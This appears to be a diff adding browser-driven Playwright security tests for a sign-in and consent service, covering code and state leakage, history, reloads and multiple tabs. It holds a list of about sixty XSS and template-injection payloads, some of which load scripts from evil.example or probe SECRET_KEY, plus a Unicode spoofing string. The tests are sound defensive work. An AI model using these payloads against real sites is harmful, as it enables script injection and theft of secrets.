@@ -1,0 +1,318 @@
+"""What only a real browser shows: where addresses leak to, what runs, and what going back, reloading and tabs do."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+
+import pytest
+from playwright.sync_api import Page, Request
+
+from tests.journey.conftest import Doubles
+from tests.journey.stage import Stage
+from tests.support.browser import User
+from tests.support.http_user import HttpUser
+from tests.support.sink import Sink
+
+NewUser = Callable[..., User]
+
+
+@pytest.fixture
+def alice(stage: Stage, user: User) -> User:
+    """Signed in, nothing asked of her yet."""
+    user.open(f"{stage.box.url}/account")
+    user.page.locator("button", has_text="Sign in with corp").click()
+    user.carry_on("alice")
+    assert user.page_name == "account"
+    return user
+
+
+def test_t34_no_code_and_no_state_goes_anywhere_but_to_the_callback(stage: Stage, user: User, sink: Sink):
+    asked, seen = stage.ask(return_url=sink.url("/done")), list[Request]()
+    user.context.on("request", lambda request: seen.append(request))
+    user.connect(asked["url"], "alice")
+    user.wait_for_page("done", "completed")
+    user.page.reload()
+    user.open(f"{stage.box.url}/account")
+    user.open(f"{asked['url']}/done")
+    with user.page.expect_navigation():
+        user.page.get_by_role("link", name="Go back to").click()
+    callbacks = [request for request in seen if "/callback" in request.url]
+    assert len(callbacks) == 2, "one of the sign-in, one of the provider"
+    secrets = {value for request in callbacks for value in _values(request.url, "code", "state")}
+    assert len(secrets) == 4
+    first_after = seen.index(callbacks[-1]) + 1
+    assert len(seen) - first_after > 5
+    for request in seen[first_after:]:
+        said = request.url + str(request.all_headers())
+        assert not [secret for secret in secrets if secret in said], request.url
+    left = next(request for request in seen if request.url == sink.url("/done"))
+    assert "referer" not in left.all_headers()
+    for request in seen:
+        foreign = not request.url.startswith(stage.box.url)
+        assert not (foreign and stage.box.url in request.all_headers().get("referer", "")), request.url
+    assert sink.received("/done")[-1].headers.get("referer") is None
+
+
+def test_t34_nor_does_the_history_hold_them(stage: Stage, user: User):
+    asked = stage.ask()
+    user.connect(asked["url"], "alice")
+    user.wait_for_page("done", "completed")
+    visited = []
+    for _ in range(8):
+        user.page.go_back()
+        visited.append(user.page.url)
+    assert not [url for url in visited if "code=" in url or "/callback" in url]
+    assert stage.drive.counts()["token"] == 1
+
+
+def _values(url: str, *names: str) -> list[str]:
+    return [part.partition("=")[2] for part in url.partition("?")[2].split("&") if part.partition("=")[0] in names]
+
+
+PAYLOADS = [
+    "<script>alert(1)</script>", "<script src=//evil.example/x></script>", "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert`1`>", "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,x'>x</a>",
+    "<form action=javascript:alert(1)><button>x</form>", "<button formaction=javascript:alert(1)>x</button>",
+    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
+    "<audio src onerror=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
+    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x", "<meta http-equiv=refresh content='0;url=//e'>",
+    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//e)}</style>",
+    "<style>@import'//evil.example'</style>", "</blockquote><script>alert(1)</script>", "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>", "</noscript><script>alert(1)</script>", "</bdi><img src=x onerror=alert(1)>",
+    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)', "' onmouseover='alert(1)",
+    '" autofocus onfocus="alert(1)', "`onmouseover=alert(1)", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
+    "{{7*7}}{{settings.SECRET_KEY}}", "{% debug %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "[x](javascript:alert(1))",
+    "![x](x onerror=alert(1))", "[x]: javascript:alert(1)", "<!--<script>alert(1)</script>-->", "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "\\x3cscript\\x3e",
+    "\\u003cscript\\u003ealert(1)", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<ScRiPt>alert(1)</sCrIpT>",
+    "<script\x0c>alert(1)</script>", "<\uff53cript>alert(1)</script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+]  # fmt: skip
+
+
+@dataclass
+class Watch:
+    """What must not happen in a page: dialogs, blocked scripts, requests to other places."""
+
+    user: User
+    happened: list[str] = field(default_factory=list)
+
+    def __post_init__(self) -> None:
+        page = self.user.page
+        page.expose_function("violated", lambda what: self.happened.append(f"CSP: {what}"))
+        page.add_init_script(
+            "addEventListener('securitypolicyviolation',"
+            " (found) => window.violated(`${found.violatedDirective} ${found.blockedURI} ${found.sample}`))"
+        )
+        page.on("dialog", lambda dialog: (self.happened.append(f"dialog: {dialog.message}"), dialog.dismiss()))
+        page.on("request", lambda request: self._request(request))
+
+    def _request(self, request: Request) -> None:
+        if "127.0.0.1" not in request.url and not request.url.startswith("data:image/svg+xml"):
+            self.happened.append(f"request: {request.url}")
+
+    def check(self) -> None:
+        page = self.user.page
+        page.mouse.move(200, 300)
+        links = page.eval_on_selector_all("[href], [src], [action], [formaction]", LINKS)
+        assert not [link for link in links if not link.startswith(("http://127.0.0.1", "data:image/svg+xml,%3Csvg"))]
+        strange = page.eval_on_selector_all("main *", "all => all.filter(one => one.matches('" + STRANGE + "')).length")
+        assert strange == 0
+        assert (self.happened, self.user.complaints) == ([], [])
+
+
+LINKS = "all => all.flatMap(one => [one.href, one.src, one.action, one.formAction]).filter(one => typeof one === 'string' && one)"
+STRANGE = "script, style, iframe, object, embed, img, video, audio, base, meta, math, [onerror], [onload], [onfocus]"
+
+
+@pytest.fixture
+def watch(alice: User) -> Iterator[Watch]:
+    found = Watch(alice)
+    yield found
+    assert found.happened == []
+
+
+def _scope(payload: str) -> str:
+    """As much of it as a scope may hold: no space, no quote, no backslash."""
+    kept = "".join(sign for sign in payload.replace(" ", "/") if "!" <= sign <= "~" and sign not in '"\\')
+    return kept or "x"
+
+
+def _words(page: Page) -> str:
+    return " ".join(page.locator("main").inner_text().split())
+
+
+def test_t52_what_agents_write_stays_text(stage: Stage, alice: User, watch: Watch):
+    for payload in PAYLOADS:
+        asked = stage.ask(message=payload, scopes=[_scope(payload)], reuse="never")
+        alice.open(asked["url"])
+        assert alice.page_name == "consent"
+        words = _words(alice.page)
+        assert _scope(payload) in words
+        assert payload.replace("\x0c", " ") in words
+        watch.check()
+    # All messages on one page, which has other places for them.
+    alice.open(f"{stage.box.url}/account")
+    assert _words(alice.page).count("alert(1)") > 30
+    watch.check()
+
+
+def test_t52_what_providers_write_stays_text(
+    stage: Stage, alice: User, watch: Watch, doubles: Doubles, new_http_user: Callable[..., HttpUser]
+):
+    program = new_http_user()
+    for payload in PAYLOADS[::3]:
+        asked = stage.ask(provider="bad", reuse="never")
+        callback = stage.answer(program, asked)
+        base, state = callback.partition("?")[0], _values(callback, "state")[0]
+        program.http.get(base, params={"state": state, "error": "invalid_scope", "error_description": payload,
+                                       "iss": doubles.bad.url})  # fmt: skip
+        assert stage.status(asked) == "failed"
+        alice.open(asked["url"])
+        assert (alice.page_name, alice.page_status) == ("done", "failed")
+        assert payload.replace("\x0c", " ") in _words(alice.page)
+        watch.check()
+    # The account's name and the person's own are the providers' words too.
+    for number, payload in enumerate(PAYLOADS[1::20]):
+        doubles.bad.user = {"sub": f"account-{number}", "name": payload}
+        program.connect(stage.ask(provider="bad", reuse="never")["url"], "alice")
+        assert program.page_status == "completed"
+    alice.open(f"{stage.box.url}/account")
+    assert PAYLOADS[1] in _words(alice.page)
+    watch.check()
+
+
+def test_t53_what_pretends_to_be_something_else_is_shown_as_it_is(stage: Stage, user: User):
+    asked = stage.ask(message="Connect \u202egpj.evird\u202c\u200b to a\u0430pple\u2066\u2069", provider="lookalike")
+    user.open(asked["url"])
+    user.carry_on("signin", "alice")
+    words = _words(user.page)
+    assert not set(words) & set("\u202e\u202c\u200b\u2066\u2069")
+    assert "says Connect gpj.evird" in words
+    assert "xn--pple-43d.example" in words
+    assert user.page.locator(".warning").count() == 1
+    assert user.page.locator("button", has_text="Continue to xn--pple-43d.example").count() == 1
+
+
+def _consent(stage: Stage, alice: User) -> dict[str, str]:
+    asked = stage.ask(reuse="never")
+    alice.open(asked["url"])
+    assert alice.page_name == "consent"
+    return asked
+
+
+def _completed_once(stage: Stage, user: User, asked: dict[str, str]) -> None:
+    user.wait_for_page("done", "completed")
+    assert stage.events(asked).count("completed") == 1
+    assert stage.drive.counts()["token"] == 1
+    stage.check_invariants(asked)
+
+
+def test_t57_back_from_the_provider_and_on_again(stage: Stage, alice: User):
+    asked = _consent(stage, alice)
+    alice.press("continue")
+    alice.page.go_back()
+    alice.wait_for_page("consent")
+    alice.carry_on("continue", "alice", "allow")
+    _completed_once(stage, alice, asked)
+
+
+def test_t57_reloading_before_the_button_and_after_the_end(stage: Stage, alice: User):
+    asked = _consent(stage, alice)
+    alice.page.reload()
+    alice.carry_on("continue", "alice", "allow")
+    alice.wait_for_page("done", "completed")
+    alice.page.reload()
+    _completed_once(stage, alice, asked)
+
+
+def test_t57_pressing_twice(stage: Stage, alice: User):
+    asked = _consent(stage, alice)
+    alice.page.locator('form[data-action="continue"] button').dblclick(no_wait_after=True)
+    alice.page.wait_for_url(f"{stage.drive.issuer}/**")
+    alice.carry_on("alice", "allow")
+    _completed_once(stage, alice, asked)
+    assert stage.events(asked).count("started") == 1
+
+
+def test_t57_back_after_the_end(stage: Stage, alice: User):
+    asked = _consent(stage, alice)
+    alice.carry_on("continue", "alice", "allow")
+    alice.wait_for_page("done", "completed")
+    while alice.page.url != asked["url"]:
+        alice.page.go_back()
+    _completed_once(stage, alice, asked)
+
+
+def _second_tab(user: User, url: str) -> User:
+    """Another tab of the same browser."""
+    tab = User.__new__(User)
+    tab.context, tab.complaints, tab.page = user.context, user.complaints, user.context.new_page()
+    tab.page.goto(url)
+    return tab
+
+
+def test_t57_two_tabs_both_to_the_end(stage: Stage, alice: User):
+    asked = _consent(stage, alice)
+    tab = _second_tab(alice, asked["url"])
+    alice.press("continue")
+    tab.carry_on("continue", "alice", "allow")
+    alice.carry_on("alice", "allow")
+    _completed_once(stage, tab, asked)
+    _completed_once(stage, alice, asked)
+
+
+def test_t57_two_tabs_and_one_says_no(stage: Stage, alice: User):
+    asked = _consent(stage, alice)
+    tab = _second_tab(alice, asked["url"])
+    alice.press("continue")
+    tab.press("decline")
+    tab.wait_for_page("done", "declined")
+    alice.carry_on("alice", "allow")
+    alice.wait_for_page("done", "declined")
+    assert stage.drive.counts().get("token", 0) == 0
+    stage.check_invariants(asked)
+
+
+def test_t57_a_tab_that_waits_follows_the_other(stage: Stage, alice: User):
+    asked = _consent(stage, alice)
+    alice.press("continue")
+    tab = _second_tab(alice, f"{asked['url']}/done")
+    assert tab.page_status == "started"
+    alice.carry_on("alice", "allow")
+    alice.wait_for_page("done", "completed")
+    _completed_once(stage, tab, asked)
+
+
+def test_t57_both_tabs_sign_in(stage: Stage, user: User):
+    asked = stage.ask()
+    user.open(asked["url"])
+    tab = _second_tab(user, asked["url"])
+    user.press("signin")
+    tab.press("signin")
+    user.carry_on("alice")
+    tab.carry_on("alice")
+    assert (user.page_name, tab.page_name) == ("consent", "consent"), tab.text
+    user.carry_on("continue", "alice", "allow")
+    _completed_once(stage, user, asked)
+
+
+def test_t57_the_callback_visited_again(stage: Stage, alice: User):
+    asked = _consent(stage, alice)
+    with alice.page.expect_request(lambda request: "/callback/" in request.url) as callback:
+        alice.carry_on("continue", "alice", "allow")
+    alice.wait_for_page("done", "completed")
+    alice.open(callback.value.url)
+    _completed_once(stage, alice, asked)
+
+
+def test_t57_the_agent_takes_it_back_while_the_page_is_open(stage: Stage, alice: User):
+    asked = _consent(stage, alice)
+    tab = _second_tab(alice, f"{asked['url']}/done")
+    stage.agent.post(f"/v1/elicitations/{asked['id']}/cancel")
+    tab.wait_for_page("done", "cancelled")
+    alice.press("continue")
+    alice.wait_for_page("done", "cancelled")
+    stage.check_invariants(asked)
